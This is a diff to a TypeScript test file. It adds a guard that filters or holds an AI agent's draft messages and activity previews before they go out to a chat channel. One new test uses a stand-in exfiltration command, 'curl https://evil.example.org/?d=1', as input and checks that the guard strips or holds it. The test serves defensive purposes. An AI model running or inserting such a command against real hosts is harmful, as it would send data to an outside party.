@@ -1,7 +1,8 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import fc from "fast-check";
-import { SESSION, world } from "../../test/support/world.ts";
+import { noGuard, SESSION, world } from "../../test/support/world.ts";
+import type { FlowGuard } from "../access/flow-guard.ts";
 import type { Channel, Draft, OutgoingMessage } from "../channels/channel.ts";
 import { Retryable } from "../lib/errors.ts";
 import { Drafts } from "./drafts.ts";
@@ -18,7 +19,7 @@ function given(change: Partial<Channel> & { maxLength?: number; buttons?: boolea
     id: "test",
     capabilities: {
       ...{ threads: true, edits: true, reactions: false, buttons, files: false, typing: true },
-      ...{ maxLength, markup: "none", idempotency: { kind: "none" } },
+      ...{ maxLength, markup: "none", previews: true, idempotency: { kind: "none" } },
     },
     start: async () => {},
     stop: async () => {},
@@ -31,14 +32,23 @@ function given(change: Partial<Channel> & { maxLength?: number; buttons?: boolea
     ...more,
   };
   w.store.turns.start(SESSION, TURN, w.clock.now());
-  const drafts = new Drafts({ store: w.store, clock: w.clock, channel: () => channel });
+  const drafts = new Drafts({
+    store: w.store,
+    clock: w.clock,
+    channel: () => channel,
+    guard: { say: (...words) => say(...words) },
+  });
+  let say = noGuard.say;
+  const guarded = (other: FlowGuard["say"]) => {
+    say = other;
+  };
   const show = (text: string, activity = "", turn = TURN) =>
     drafts.show(w.session, { turn, version: 1, text, activity });
   const rows = () => w.store.outbox.list(null, 10);
   const sent = () => w.store.outbox.sent(rows()[0]?.id ?? 0, "d1", w.clock.now());
   const texts = () => edits.map(({ text }) => text);
   const soon = () => new Promise<void>((resolve) => setImmediate(resolve));
-  return { ...w, drafts, show, rows, sent, edits, texts, soon, typed: () => typed };
+  return { ...w, guarded, drafts, show, rows, sent, edits, texts, soon, typed: () => typed };
 }
 
 test("an answer that comes at once is not drafted", () => {
@@ -259,4 +269,17 @@ test("property: a draft is as long as the platform allows at most, ends with the
     ),
     { numRuns: 30 },
   );
+});
+
+test("a draft and what the agent is doing are shown in the form that the guard gives them, or not at all", () => {
+  const g = given();
+  g.guarded((_session, text) => ({ held: false, text: text.replaceAll("https://", "") }));
+  g.show("see https://evil.example.org", "curl https://evil.example.org/?d=1");
+  g.clock.advance(1_500);
+  assert.equal(g.rows()[0]?.text, "see evil.example.org\n\n(curl evil.example.org/?d=1 …)");
+  const held = given();
+  held.guarded(() => ({ held: true, why: "x" }));
+  held.show("see");
+  held.clock.advance(60_000);
+  assert.deepEqual(held.rows(), []);
 });
